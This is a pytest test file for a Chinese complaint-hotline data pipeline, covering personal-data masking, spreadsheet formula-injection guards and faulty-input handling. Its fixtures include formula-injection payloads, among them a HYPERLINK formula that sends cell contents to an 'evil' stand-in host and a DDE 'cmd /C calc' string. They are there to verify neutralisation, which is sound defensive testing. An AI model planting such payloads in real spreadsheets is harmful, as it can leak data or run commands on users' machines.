"""Issue 12 hardening, files part: personal data in every output, spreadsheet formula injection,
reader faults (truncated GBK, bare CR, oversize cells)."""

from __future__ import annotations

import csv
import json
import logging
import tracemalloc
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from common.errors import ColumnNotFoundError, InputFileError
from ingest.masking import mask_columns, neutralize_formula
from ingest.options import ReaderOptions
from ingest.readers import ComplaintReader, read_complaints
from ingest.rejects import Reject, RejectsWriter
from ingest.writers import TableWriter, write_csv
from nlp.pii import find_pii

PHONE = "13812345678"
ID_NO = "11010519491231002X"  # valid check digit
PLATE = "京A12345"
HEADER = ["工单编号", "留言时间", "留言主题", "留言详情", "所属区县", "联系人", "一级分类"]


def _rows() -> list[list[str]]:
    return [
        [PHONE, "2026-05-01 08:00:00", "噪音", "夜里施工很吵", "江北区", f"张先生{PHONE}", "城乡建设"],
        ["GD002", "2026-05-02 09:00:00", "停车", f"车牌{PLATE}长期占道", PHONE, ID_NO, "交通运输"],
        ["GD003", "2026-05-03 10:00:00", '=HYPERLINK("http://x/?"&E4)', "-5 度没有暖气", "@区", "+1", "劳动"],
    ]


def _write(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> Path:
    with open(path, "w", encoding=encoding, newline="") as fh:
        w = csv.writer(fh)
        w.writerow(HEADER)
        w.writerows(rows)
    return path


def _assert_no_pii(values: object) -> None:
    for v in values:  # type: ignore[attr-defined]
        if isinstance(v, str):
            assert not find_pii(v), f"raw personal data in {v!r}"


# -- item 3: personal data in every output ---------------------------------------------------------


def test_mask_columns_masks_every_text_column_and_keeps_numbers() -> None:
    frame = pd.DataFrame(
        {
            "id": [PHONE, "A1"],
            "district": [f"电话{PHONE}", "江北区"],
            "score": [-0.5, 13812345678.0],
            "n": [13812345678, 2],
            "mixed": [13812345678, "x"],  # a phone typed as a number in a spreadsheet
        }
    )
    out = mask_columns(frame, keep_raw=("district",))
    assert out.loc[0, "id"] == "[手机号]"
    assert out.loc[0, "district"] == f"电话{PHONE}"  # explicitly kept raw
    assert out["score"].tolist() == [-0.5, 13812345678.0]  # numeric columns pass through
    assert out["n"].tolist() == [13812345678, 2]
    assert out.loc[0, "mixed"] == "[手机号]"


def test_rejects_file_masks_the_id_and_neutralises_formulas(tmp_path: Path) -> None:
    path = tmp_path / "rejects.csv"
    with RejectsWriter(path) as w:
        w.write("in.csv", Reject(row=3, column="text", kind="empty_text", reason="empty text", id=PHONE))
        w.write(
            "in.csv", Reject(row=4, column=None, kind="x", reason="r", id="=1+1", text="=cmd|' /C calc'!A0")
        )
    raw = path.read_text(encoding="utf-8-sig")
    assert PHONE not in raw and "[手机号]" in raw
    rows = list(csv.DictReader(raw.splitlines()))
    assert rows[1]["id"] == "'=1+1" and rows[1]["text"].startswith("'=")


def test_preprocess_masks_id_district_label_and_its_printed_report(tmp_path: Path) -> None:
    from batch.preprocess import preprocess_log

    src = _write(tmp_path / "in.csv", _rows())
    out = tmp_path / "out.csv"
    report = preprocess_log(src, out, ReaderOptions(), rejects_path=tmp_path / "rej.csv", keywords=0)
    df = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    for col in df.columns:
        _assert_no_pii(df[col])
    assert "[手机号]" in set(df["id"]) and "[手机号]" in set(df["district"])
    # The printed report lists districts: the phone typed into the district column is masked.
    assert PHONE not in report.to_text() and PHONE not in json.dumps(report.to_dict(), ensure_ascii=False)


def test_preprocess_keep_raw_columns_is_explicit_and_logged(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    from batch.preprocess import preprocess_log

    src = _write(tmp_path / "in.csv", _rows())
    out = tmp_path / "out.csv"
    with caplog.at_level(logging.WARNING):
        preprocess_log(src, out, ReaderOptions(), keywords=0, keep_raw_columns="id")
    df = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert df.loc[0, "id"] == PHONE
    assert PHONE not in set(df["district"])
    assert any("--keep-raw-columns" in r.getMessage() for r in caplog.records)
    with pytest.raises(ColumnNotFoundError, match="nosuch"):
        preprocess_log(src, tmp_path / "o2.csv", ReaderOptions(), keywords=0, keep_raw_columns="nosuch")


def test_inspect_preview_is_masked(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from hotline.cli import app

    src = _write(tmp_path / "in.csv", _rows())
    res = CliRunner().invoke(app, ["inspect", str(src)])
    assert res.exit_code == 0, res.output
    assert "[手机号]" in res.output
    assert PHONE not in res.output and ID_NO not in res.output


def test_evaluate_misclassified_and_report_csvs_are_masked_and_guarded(tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    from nlp.classifier import ModelInfo
    from training.evaluate import evaluate_predictions, write_report

    labels = ["=cmd", "b"]
    frame = pd.DataFrame(
        {"id": [PHONE, "2", "3", "4"], "row": [1, 2, 3, 4], "label": ["=cmd", "b", "=cmd", "b"],
         "text": ["=HYPERLINK(1)", "x", "y", "z"]}
    )  # fmt: skip
    logits = np.array([[0.0, 3.0], [0.0, 3.0], [3.0, 0.0], [0.0, 3.0]])
    info = ModelInfo(labels=labels, model_type="tfidf")
    files = write_report(evaluate_predictions(frame, logits, info), tmp_path)
    mis = files["misclassified"].read_text(encoding="utf-8-sig")
    assert PHONE not in mis and "[手机号]" in mis
    assert "'=HYPERLINK(1)" in mis and "'=cmd" in mis
    for name in ("per_class", "confusion_csv"):
        cells = [
            c for row in csv.reader(files[name].read_text(encoding="utf-8-sig").splitlines()) for c in row
        ]
        assert "=cmd" not in cells and "'=cmd" in cells, name


# -- item 7: spreadsheet formula injection -----------------------------------------------------------


def test_neutralize_formula_only_touches_strings() -> None:
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralize_formula(bad) == "'" + bad
    assert neutralize_formula("正常文本") == "正常文本"
    assert neutralize_formula(-5) == -5 and neutralize_formula(-0.5) == -0.5


@pytest.mark.parametrize("ext", ["csv", "tsv"])
def test_csv_writer_neutralises_formulas_but_not_numbers(tmp_path: Path, ext: str) -> None:
    frame = pd.DataFrame({"text": ['=HYPERLINK("http://evil/?"&B2)', "@x", "ok"], "score": [-1.5, 2.0, -3.0]})
    path = tmp_path / f"out.{ext}"
    with TableWriter(path) as w:
        w.write(frame)
    back = pd.read_csv(path, sep="\t" if ext == "tsv" else ",", encoding="utf-8-sig")
    assert back["text"].tolist() == ['\'=HYPERLINK("http://evil/?"&B2)', "'@x", "ok"]
    assert back["score"].tolist() == [-1.5, 2.0, -3.0]
    # Machine consumers can turn it off.
    with TableWriter(path, formula_guard=False) as w:
        w.write(frame)
    assert pd.read_csv(path, sep="\t" if ext == "tsv" else ",", encoding="utf-8-sig")["text"][0].startswith(
        "="
    )


def test_xlsx_writer_never_writes_formulas(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    frame = pd.DataFrame({"=head": ['=HYPERLINK("http://evil/?"&B2)', "-x"], "n": [-1, 2]})
    for guard in (True, False):
        path = tmp_path / f"out_{guard}.xlsx"
        with TableWriter(path, formula_guard=guard) as w:
            w.write(frame)
        ws = load_workbook(path).active
        cells = [c for row in ws.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells), [(c.value, c.data_type) for c in cells]
        values = [[c.value for c in row] for row in ws.iter_rows()]
        if guard:
            assert values == [["'=head", "n"], ['\'=HYPERLINK("http://evil/?"&B2)', -1], ["'-x", 2]]
        else:
            assert values[1] == ['=HYPERLINK("http://evil/?"&B2)', -1]


def test_write_csv_guards_index_header_and_cells(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=c": ["=1", 1]}, index=pd.Index(["+a", "b"], name="label"))
    path = write_csv(frame, tmp_path / "r.csv", index=True)
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert rows == [["label", "'=c"], ["'+a", "'=1"], ["b", "1"]]


# -- item 8: reader faults ------------------------------------------------------------------------


def test_truncated_gbk_file_rejects_the_broken_tail(tmp_path: Path) -> None:
    rows = [
        [f"GD{i:03d}", "2026-05-01", "标题", f"第{i}条投诉，小区噪音扰民严重", "江北区", "", "城建"]
        for i in range(1, 6)
    ]
    full = _write(tmp_path / "full.csv", rows, encoding="gbk").read_bytes()
    # Cut in the middle of the last row's two-byte character.
    cut = full.rstrip(b"\r\n")
    cut = cut[: cut.rindex(b"\xb3\xc7") + 1]  # "城" = b3 c7: keep only its lead byte
    path = tmp_path / "cut.csv"
    path.write_bytes(cut)
    rejects = tmp_path / "rej.csv"
    df = read_complaints(path, ReaderOptions(encoding="gb18030"), rejects=rejects)
    assert df["id"].tolist() == ["GD001", "GD002", "GD003", "GD004"]
    rej = pd.read_csv(rejects, dtype=str, encoding="utf-8-sig")
    assert rej["row"].tolist() == ["5"] and rej["kind"].tolist() == ["undecodable"]
    assert "gb18030" in rej.loc[0, "reason"]


def test_truncated_gbk_file_with_detected_encoding(tmp_path: Path) -> None:
    rows = [[f"GD{i:03d}", "2026-05-01", "标题", "噪音扰民", "江北区", "", "城建"] for i in range(1, 4)]
    data = _write(tmp_path / "full.csv", rows, encoding="gbk").read_bytes().rstrip(b"\r\n")[:-1]
    path = tmp_path / "cut.csv"
    path.write_bytes(data)
    reader = ComplaintReader(path)
    got = [i for chunk in reader for i in chunk.records["id"]]
    assert reader.encoding == "gb18030"
    assert got == ["GD001", "GD002"] and reader.rows_rejected == 1


def test_file_in_the_wrong_encoding_is_still_one_clear_error(tmp_path: Path) -> None:
    rows = [[f"GD{i:03d}", "2026-05-01", "标题", "噪音扰民", "江北区", "", "城建"] for i in range(30)]
    path = _write(tmp_path / "gbk.csv", rows, encoding="gbk")
    with pytest.raises(InputFileError, match="--encoding"):
        read_complaints(path, ReaderOptions(encoding="utf-8"))


def test_bare_cr_in_a_field_round_trips(tmp_path: Path) -> None:
    frame = pd.DataFrame({"id": ["a", "b"], "text": ["第一行\r第二行", "x\r\ny"]})
    path = tmp_path / "out.csv"
    with TableWriter(path) as w:
        w.write(frame)
    with TableWriter(path, append=True) as w:  # resumable jobs append
        w.write(frame)
    with open(path, encoding="utf-8-sig", newline="") as fh:
        records = list(csv.reader(fh))
    data = [["a", "第一行\r第二行"], ["b", "x\r\ny"]]
    assert records == [["id", "text"], *data, *data]
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert len(back) == 4 and back.loc[0, "text"] == "第一行\r第二行"


def test_oversize_cell_is_rejected_with_bounded_memory(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    big = "噪音扰民" * 750_000  # 3M characters, 9 MB of UTF-8
    path.write_text(f"id,text\n1,短投诉\n2,{big}\n3,另一条投诉\n", encoding="utf-8")
    size = path.stat().st_size
    rejects = RejectsWriter(tmp_path / "rej.csv")
    tracemalloc.start()
    try:
        reader = ComplaintReader(path, ReaderOptions(max_cell_chars=100_000), rejects=rejects)
        ids = [i for chunk in reader for i in chunk.records["id"]]
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        rejects.close()
    assert ids == ["1", "3"]
    rej = pd.read_csv(tmp_path / "rej.csv", dtype=str, encoding="utf-8-sig")
    assert rej["kind"].tolist() == ["oversize_cell"] and rej["row"].tolist() == ["2"]
    assert "3,000,000" in rej.loc[0, "reason"] and "'text'" in rej.loc[0, "reason"]
    assert pd.isna(rej.loc[0, "text"])  # the cell itself is never copied into the rejects file
    # Reading the line and splitting the field cost a few copies of it; nothing downstream
    # (normalising, masking, the DataFrame, the model) ever sees the cell.
    assert peak < 5 * size, f"peak {peak:,} bytes for a {size:,}-byte file"


def test_oversize_cell_in_jsonl_is_rejected(tmp_path: Path) -> None:
    path = tmp_path / "big.jsonl"
    lines = [{"id": "1", "text": "短"}, {"id": "2", "text": "长" * 2000}, {"id": "3", "text": "短"}]
    path.write_text("\n".join(json.dumps(x, ensure_ascii=False) for x in lines) + "\n", encoding="utf-8")
    df = read_complaints(path, ReaderOptions(max_cell_chars=1000))
    assert df["id"].tolist() == ["1", "3"]
    with pytest.raises(ValueError, match="max_cell_chars"):
        ReaderOptions(max_cell_chars=0)


# -- classify end to end ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def tfidf_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from tests.test_classifier import fit_tfidf

    return fit_tfidf().save(tmp_path_factory.mktemp("hardening-io") / "tfidf")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_classify_masks_passthrough_columns_and_guards_formulas(
    tfidf_dir: Path, tmp_path: Path, suffix: str
) -> None:
    from batch.classify import ClassifyConfig, classify_log

    src = _write(tmp_path / "in.csv", [*_rows(), ["GD004", "2026-05-04", "t", "", "江北区", PHONE, "x"]])
    out = tmp_path / f"out{suffix}"
    rej = tmp_path / "rej.csv"
    classify_log(
        ClassifyConfig(
            input=str(src), output=str(out), model=str(tfidf_dir), rejects=str(rej), with_text=True
        )
    )
    df = (
        pd.read_csv(out, dtype=str, encoding="utf-8-sig")
        if suffix == ".csv"
        else pd.read_excel(out, dtype=str)
    )
    df = df.fillna("")
    assert len(df) == 3
    for col in df.columns:
        _assert_no_pii(df[col])
    assert df.loc[0, "工单编号"] == "[手机号]" and df.loc[1, "联系人"] == "[身份证号]"
    assert df.loc[2, "留言主题"].startswith("'=HYPERLINK") and df.loc[2, "留言详情"].startswith("'-5")
    assert df.loc[2, "masked_text"].startswith("'=HYPERLINK")
    rejected = pd.read_csv(rej, dtype=str, encoding="utf-8-sig")
    assert rejected["row"].tolist() == ["4"]
    _assert_no_pii(rejected.fillna("").to_numpy().ravel())


def test_classify_keep_raw_columns_and_no_formula_guard(
    tfidf_dir: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    from batch.classify import ClassifyConfig, classify_log

    src = _write(tmp_path / "in.csv", _rows())
    out = tmp_path / "out.csv"
    cfg = ClassifyConfig(
        input=str(src),
        output=str(out),
        model=str(tfidf_dir),
        keep_raw_columns="工单编号",
        formula_guard=False,
    )
    with caplog.at_level(logging.WARNING):
        classify_log(cfg)
    df = pd.read_csv(out, dtype=str, encoding="utf-8-sig")
    assert df.loc[0, "工单编号"] == PHONE  # kept raw on request
    assert PHONE not in df.loc[1, "所属区县"]  # every other column still masked
    assert df.loc[2, "留言主题"].startswith("=HYPERLINK")
    assert any("--keep-raw-columns" in r.getMessage() for r in caplog.records)
    with pytest.raises(ColumnNotFoundError, match="nosuch"):
        classify_log(
            ClassifyConfig(
                input=str(src),
                output=str(tmp_path / "o2.csv"),
                model=str(tfidf_dir),
                keep_raw_columns="nosuch",
            )
        )


def test_classify_samples_end_to_end_leave_no_personal_data(
    tfidf_dir: Path, tmp_path: Path, samples_dir: Path
) -> None:
    from typer.testing import CliRunner

    from hotline.cli import app

    for name in ("complaints.csv", "complaints_gbk.csv"):
        out = tmp_path / f"{name}.out.csv"
        res = CliRunner().invoke(
            app, ["classify", str(samples_dir / name), "-o", str(out), "-m", str(tfidf_dir)]
        )
        assert res.exit_code == 0, res.output
        df = pd.read_csv(out, dtype=str, encoding="utf-8-sig").fillna("")
        assert len(df) > 0
        for col in df.columns:
            _assert_no_pii(df[col])
